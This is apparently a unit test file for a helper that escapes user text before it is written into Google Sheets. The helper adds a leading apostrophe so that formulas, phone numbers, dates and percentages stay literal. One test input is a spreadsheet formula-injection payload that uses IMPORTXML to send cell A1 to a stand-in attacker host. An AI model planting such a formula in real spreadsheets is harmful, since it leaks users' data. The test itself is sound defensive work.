import { literalCell, wouldBeReinterpreted } from '../../src/core/sheet-text';

describe('literalCell: user text reaches Sheets as text', () => {
  it.each([
    '=IMPORTXML("http://attacker.example/?q="&A1,"//a")',
    '+84912345678',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1',
    '0912345678',
    '10.000.000',
    '1,5',
    '50%',
    'TRUE',
    'false',
    '16/8/2024',
    '2024-08-16',
    '08:30',
    "'quoted",
  ])('protects %j with a leading apostrophe', (text) => {
    expect(wouldBeReinterpreted(text)).toBe(true);
    expect(literalCell(text)).toBe(`'${text}`);
  });

  it.each(['Nguyễn Văn An', 'Sở Nội vụ', 'Giải Nhất', 'Bài dự thi số 7', '', 'Đề xuất "Ngày thứ năm không chờ"'])(
    'leaves ordinary text %j as it is',
    (text) => {
      expect(literalCell(text)).toBe(text);
    },
  );

  it('leaves numbers, booleans and dates alone: they are already typed values', () => {
    const date = new Date(2024, 7, 16);
    expect(literalCell(10_000_000)).toBe(10_000_000);
    expect(literalCell(true)).toBe(true);
    expect(literalCell(date)).toBe(date);
  });
});
